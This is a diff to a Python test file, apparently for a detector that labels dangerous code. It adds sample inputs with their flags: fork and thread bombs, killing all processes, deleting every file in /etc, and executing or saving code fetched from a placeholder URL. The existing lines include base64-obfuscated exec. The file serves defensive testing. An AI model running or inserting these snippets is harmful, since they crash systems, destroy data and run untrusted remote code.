@@ -146,6 +146,13 @@ def test_a_command_is_found_behind_every_way_of_saying_it(source: str) -> None:
         (f"import base64\nexec(base64.b64decode('{B64}'))", "obfuscated"),
         ("import base64\nd = \"import os; os.system('ls')\"\nopen('/usr/x.py','wb').write(base64.b64encode(d.encode()))", "obfuscated"),
         ("import os\ngetattr(os, input())()", "dynamic_code"),
+        ("import threading\nfor i in range(100000):\n    threading.Thread(target=f).start()", "resource_bomb"),
+        ("import subprocess\nwhile True:\n    subprocess.Popen(['python3', __file__])", "resource_bomb"),
+        ("import os\n[os.fork() for _ in range(1000)]", "resource_bomb"),
+        ("import psutil\nfor p in psutil.process_iter():\n    p.kill()", "kill"),
+        ("import pathlib\nfor p in pathlib.Path('/etc').glob('*'):\n    p.unlink()", "system_delete"),
+        ("import urllib.request as u\nexec(u.urlopen('http://e/x.py').read())", "remote_code"),
+        ("import requests\nr = requests.get('http://e/x.py')\nopen('x.py', 'w').write(r.text)", "download_write"),
     ],
 )  # fmt: skip
 def test_what_it_does_is_named(source: str, flag: str) -> None:
